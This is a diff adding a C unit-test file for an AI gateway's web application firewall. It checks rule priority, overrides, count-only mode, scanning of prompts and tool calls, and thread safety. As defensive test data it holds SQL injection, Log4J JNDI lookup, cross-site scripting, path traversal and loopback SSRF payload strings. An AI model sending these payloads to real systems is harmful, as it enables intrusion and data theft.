@@ -1,0 +1,309 @@
+/* Options, order of rules, count modes, content policies, explain, bad arguments, many threads. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+
+#include <cmocka.h>
+
+#include "base/text.h"
+#include "gate/waf.h"
+#include <pthread.h>
+#include <stdio.h>
+#include <stdlib.h>
+
+static aigw_header headers[] = {{{"Host", 4}, {"gw.example.com", 14}},
+                                {{"User-Agent", 10}, {"t/1", 3}},
+                                {{"Content-Type", 12}, {"application/json", 16}},
+                                {{"Content-Length", 14}, {"9", 1}}};
+
+static aigw_waf_request request_of(const char *query, const char *body)
+{
+    return (aigw_waf_request){.size = sizeof(aigw_waf_request),
+                              .method = GW_S("POST"),
+                              .path = GW_S("/v1/chat/completions"),
+                              .query = aigw_slice_of(query),
+                              .headers = headers,
+                              .header_count = 4,
+                              .body = aigw_slice_of(body)};
+}
+
+static aigw_waf *waf_of(const aigw_waf_options *options)
+{
+    aigw_waf *waf = NULL;
+    assert_int_equal(aigw_waf_new(options, &waf, NULL), AIGW_OK);
+    return waf;
+}
+
+static const aigw_waf_result *check(const aigw_waf *waf, const char *query, const char *body)
+{
+    static aigw_waf_result result;
+    aigw_waf_request request = request_of(query, body);
+    assert_int_equal(aigw_waf_check(waf, &request, &result, NULL), AIGW_OK);
+    return &result;
+}
+
+static const char *stopped_by(const aigw_waf_result *result)
+{
+    return result->block ? result->matches[result->terminating].rule : "";
+}
+
+static bool labelled(const aigw_waf_result *result, const char *label)
+{
+    for (size_t i = 0; i < result->match_count; i++) {
+        if (strcmp(result->matches[i].label, label) == 0)
+            return true;
+    }
+    return false;
+}
+
+static void first_by_priority(void **state)
+{
+    (void)state;
+    aigw_waf *waf = waf_of(&(aigw_waf_options){.size = sizeof(aigw_waf_options)});
+    const char *query = "a=1'+or+1=1--&b=${jndi:ldap://x}&c=<script>&d=../../x";
+    assert_string_equal(stopped_by(check(waf, query, NULL)), "GenericLFI_QUERYARGUMENTS");
+    assert_string_equal(stopped_by(check(waf, "a=1'+or+1=1--&b=${jndi:ldap:x}", NULL)),
+                        "Log4JRCE_QUERYSTRING");
+    assert_string_equal(stopped_by(check(waf, "a=hello", NULL)), "");
+    assert_string_equal(check(waf, "name=../../x", NULL)->matches[0].location, "args:name");
+    aigw_waf_free(waf);
+}
+
+static void overrides(void **state)
+{
+    (void)state;
+    const char *query = "c=<script>&d=../../x&a=1'+or+1=1--";
+    aigw_waf_override rule[] = {{"GenericLFI_QUERYARGUMENTS", AIGW_WAF_COUNT}};
+    aigw_waf *waf = waf_of(&(aigw_waf_options){
+        .size = sizeof(aigw_waf_options), .overrides = rule, .override_count = 1});
+    const aigw_waf_result *r = check(waf, query, NULL);
+    assert_string_equal(stopped_by(r), "CrossSiteScripting_QUERYARGUMENTS");
+    assert_int_equal(r->match_count, 2);
+    assert_int_equal(r->matches[0].action, AIGW_WAF_COUNT);
+    aigw_waf_free(waf);
+
+    /* The group's block becomes a count, and ends the group: the third rule of it is not reached. */
+    aigw_waf_override group[] = {{"AWSManagedRulesCommonRuleSet", AIGW_WAF_COUNT}};
+    waf = waf_of(&(aigw_waf_options){
+        .size = sizeof(aigw_waf_options), .overrides = group, .override_count = 1});
+    r = check(waf, query, NULL);
+    assert_string_equal(stopped_by(r), "SQLi_QUERYARGUMENTS");
+    assert_string_equal(r->matches[0].rule, "GenericLFI_QUERYARGUMENTS");
+    assert_int_equal(r->match_count, 2);
+    aigw_waf_free(waf);
+
+    aigw_waf_override none[] = {{"GenericLFI_QUERYARGUMENTS", AIGW_WAF_NONE}};
+    waf = waf_of(&(aigw_waf_options){
+        .size = sizeof(aigw_waf_options), .overrides = none, .override_count = 1});
+    r = check(waf, "d=../../x", NULL);
+    assert_int_equal(r->match_count, 0);
+    aigw_waf_free(waf);
+
+    waf = waf_of(&(aigw_waf_options){.size = sizeof(aigw_waf_options), .count_only = true});
+    r = check(waf, query, NULL);
+    assert_false(r->block);
+    assert_true(r->match_count >= 2);
+    aigw_waf_free(waf);
+}
+
+static void bad_options(void **state)
+{
+    (void)state;
+    aigw_waf *waf = NULL;
+    aigw_error err;
+    aigw_waf_override unknown[] = {{"GenericLFI", AIGW_WAF_COUNT}};
+    aigw_waf_options options = {.size = sizeof options, .overrides = unknown, .override_count = 1};
+    assert_int_equal(aigw_waf_new(&options, &waf, &err), AIGW_E_CONFIG);
+    assert_string_equal(err.pointer, "/GenericLFI");
+    unknown[0] = (aigw_waf_override){"GenericLFI_BODY", (aigw_waf_action)9};
+    assert_int_equal(aigw_waf_new(&options, &waf, &err), AIGW_E_CONFIG);
+    assert_int_equal(aigw_waf_new(NULL, &waf, &err), AIGW_E_INVALID);
+    options.size = 0;
+    assert_int_equal(aigw_waf_new(&options, &waf, &err), AIGW_E_INVALID);
+    assert_null(waf);
+    aigw_waf_free(NULL);
+    aigw_waf_result result;
+    assert_int_equal(aigw_waf_check(NULL, NULL, &result, &err), AIGW_E_INVALID);
+}
+
+#define ATTACK "x'; ${jndi:ldap://e/a} <script>alert(1)</script>"
+
+static void content(void **state)
+{
+    (void)state;
+    static const char prompt[] =
+        "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":\"" ATTACK "\"}]}";
+    static const char arguments[] =
+        "{\"messages\":[{\"role\":\"assistant\",\"tool_calls\":[{\"id\":\"a\",\"type\":"
+        "\"function\","
+        "\"function\":{\"name\":\"bash\",\"arguments\":\"" ATTACK "\"}}]}],\"tools\":[{\"type\":"
+        "\"function\",\"function\":{\"name\":\"bash\",\"description\":\"" ATTACK
+        "\",\"parameters\":{\"" ATTACK "\":\"" ATTACK "\"}}}]}";
+    for (int policy = AIGW_WAF_CONTENT_SKIP; policy <= AIGW_WAF_CONTENT_BLOCK_FULL; policy++) {
+        aigw_waf *waf = waf_of(&(aigw_waf_options){.size = sizeof(aigw_waf_options),
+                                                   .content = (aigw_waf_content)policy});
+        bool blocks = policy >= AIGW_WAF_CONTENT_BLOCK_SIGNATURES;
+        for (int which = 0; which < 2; which++) {
+            const aigw_waf_result *r = check(waf, NULL, which ? arguments : prompt);
+            assert_int_equal(r->block, blocks);
+            assert_int_equal(r->match_count > 0, policy != AIGW_WAF_CONTENT_SKIP);
+            if (!blocks && policy != AIGW_WAF_CONTENT_SKIP) {
+                assert_true(labelled(r, "aigw:waf:content:Log4JRCE"));
+                assert_string_equal(r->matches[0].matched, "");
+                assert_int_equal(r->matches[0].component, AIGW_WAF_CONTENT);
+            }
+        }
+        aigw_waf_free(waf);
+    }
+}
+
+/* What is counted in a prompt must not hide the same thing where it is blocked. */
+static void content_hides_nothing(void **state)
+{
+    (void)state;
+    aigw_waf *waf = waf_of(&(aigw_waf_options){.size = sizeof(aigw_waf_options),
+                                               .content = AIGW_WAF_CONTENT_COUNT_FULL});
+    const aigw_waf_result *r =
+        check(waf, NULL,
+              "{\"messages\":[{\"role\":\"user\",\"content\":\"${jndi:ldap://e}\"}],"
+              "\"metadata\":{\"x\":\"${jndi:ldap://e}\"}}");
+    assert_string_equal(stopped_by(r), "Log4JRCE_BODY");
+    assert_string_equal(r->matches[r->terminating].location, "json:/metadata/x");
+    aigw_waf_free(waf);
+
+    /* On a route without prompts the same body is settings all over. */
+    waf = waf_of(&(aigw_waf_options){.size = sizeof(aigw_waf_options)});
+    static aigw_waf_result result;
+    aigw_waf_request request =
+        request_of(NULL, "{\"messages\":[{\"role\":\"user\",\"content\":\"${jndi:ldap://e}\"}]}");
+    request.route = AIGW_WAF_ROUTE_OTHER;
+    assert_int_equal(aigw_waf_check(waf, &request, &result, NULL), AIGW_OK);
+    assert_string_equal(stopped_by(&result), "Log4JRCE_BODY");
+    aigw_waf_free(waf);
+}
+
+static void classes_of_json(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *body, *rule;
+    } cases[] = {
+        {"{\"model\":\"x' or 1=1--\"}", "SQLi_BODY"},
+        {"{\"metadata\":{\"1;drop table x--\":\"1\"}}", "SQLi_BODY"},
+        {"{\"messages\":[{\"role\":\"<script>\",\"content\":\"hi\"}]}", "CrossSiteScripting_BODY"},
+        {"{\"messages\":[{\"role\":\"user\",\"<script>\":\"hi\"}]}", "CrossSiteScripting_BODY"},
+        {"{\"user\":\"\\u003cscript\\u003e\"}", "CrossSiteScripting_BODY"},
+        {"{\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"file\",\"file_url\":"
+         "\"http://2130706433/\"}]}]}",
+         "EC2MetaDataSSRF_BODY"},
+        {"{\"x\":[[[{\"callback_url\":\"http://0x7f.1/\"}]]]}", "EC2MetaDataSSRF_BODY"},
+        {"{\"tools\":[{\"type\":\"function\",\"function\":{\"name\":\"bash\",\"parameters\":"
+         "{\"type\":\"object\",\"properties\":{\"select * from\":{\"type\":\"string\"}}}}}]}",
+         ""},
+        {"{\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"image_url\",\"image_url\":"
+         "\"data:image/png;base64,PHNjcmlwdD4=\"}]}]}",
+         ""},
+        {"[1,2", "BodySyntax_BODY"},
+        {"{\"a\":\"\\ud800\"}", "BodySyntax_BODY"},
+    };
+    aigw_waf *waf = waf_of(&(aigw_waf_options){.size = sizeof(aigw_waf_options)});
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        const char *by = stopped_by(check(waf, NULL, cases[i].body));
+        if (strcmp(by, cases[i].rule) != 0)
+            fail_msg("%s: %s, not %s", cases[i].body, by, cases[i].rule);
+    }
+    aigw_waf_free(waf);
+}
+
+static void credentials_are_not_read(void **state)
+{
+    (void)state;
+    static aigw_waf_result result;
+    static const char *const names[] = {"authorization", "X-Api-Key", "x-goog-api-key", "api-key"};
+    aigw_waf *waf = waf_of(&(aigw_waf_options){.size = sizeof(aigw_waf_options)});
+    for (size_t i = 0; i < 4; i++) {
+        aigw_header with[3] = {headers[0], headers[1], {aigw_slice_of(names[i]), GW_S(ATTACK)}};
+        aigw_waf_request request = request_of(NULL, NULL);
+        request.headers = with;
+        request.header_count = 3;
+        assert_int_equal(aigw_waf_check(waf, &request, &result, NULL), AIGW_OK);
+        assert_int_equal(result.match_count, 0);
+    }
+    aigw_waf_free(waf);
+}
+
+static void explains(void **state)
+{
+    (void)state;
+    aigw_waf_override none[] = {{"GenericLFI_QUERYARGUMENTS", AIGW_WAF_NONE}};
+    aigw_waf *waf = waf_of(&(aigw_waf_options){
+        .size = sizeof(aigw_waf_options), .overrides = none, .override_count = 1});
+    aigw_waf_request request = request_of("a=../../x&b=../../y&c=<script>",
+                                          "{\"messages\":[{\"content\":\"${jndi:ldap://e}\"}]}");
+    aigw_slice text;
+    assert_int_equal(aigw_waf_explain(waf, &request, &text, NULL), AIGW_OK);
+    assert_non_null(
+        gw_find(text, GW_S("none  AWSManagedRulesCommonRuleSet/GenericLFI_QUERYARGUMENTS")));
+    assert_non_null(gw_find(text, GW_S("at=args:a")));
+    assert_non_null(gw_find(text, GW_S("at=args:b")));
+    assert_non_null(gw_find(text, GW_S("label=aigw:waf:content:Log4JRCE component=CONTENT "
+                                       "at=json:/messages/0/content")));
+    assert_null(gw_find(text, GW_S("jndi")));
+    assert_non_null(gw_find(text, GW_S("verdict: block by CrossSiteScripting_QUERYARGUMENTS")));
+    aigw_bytes_free(text);
+    aigw_waf_free(waf);
+}
+
+static void *many(void *user)
+{
+    const aigw_waf *waf = user;
+    aigw_waf_result *result = calloc(1, sizeof *result);
+    for (int i = 0; i < 200; i++) {
+        aigw_waf_request request = request_of(i % 2 ? "a=../../x" : "a=x", NULL);
+        if (aigw_waf_check(waf, &request, result, NULL) != AIGW_OK || result->block != (i % 2)) {
+            free(result);
+            return NULL;
+        }
+    }
+    free(result);
+    return user;
+}
+
+static void shared_by_threads(void **state)
+{
+    (void)state;
+    aigw_waf *waf = waf_of(&(aigw_waf_options){.size = sizeof(aigw_waf_options)});
+    pthread_t threads[4];
+    for (int i = 0; i < 4; i++)
+        assert_int_equal(pthread_create(&threads[i], NULL, many, waf), 0);
+    for (int i = 0; i < 4; i++) {
+        void *fine = NULL;
+        pthread_join(threads[i], &fine);
+        assert_non_null(fine);
+    }
+    assert_string_equal(aigw_waf_info(waf), "loaded");
+    aigw_waf_free(waf);
+}
+
+int main(void)
+{
+    aigw_waf *waf = NULL;
+    aigw_error err;
+    if (aigw_waf_new(&(aigw_waf_options){.size = sizeof(aigw_waf_options)}, &waf, &err) ==
+        AIGW_E_UNSUPPORTED) {
+        printf("skipped: %s\n", err.message);
+        return 0;
+    }
+    aigw_waf_free(waf);
+    const struct CMUnitTest tests[] = {cmocka_unit_test(first_by_priority),
+                                       cmocka_unit_test(overrides),
+                                       cmocka_unit_test(bad_options),
+                                       cmocka_unit_test(content),
+                                       cmocka_unit_test(content_hides_nothing),
+                                       cmocka_unit_test(classes_of_json),
+                                       cmocka_unit_test(credentials_are_not_read),
+                                       cmocka_unit_test(explains),
+                                       cmocka_unit_test(shared_by_threads)};
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
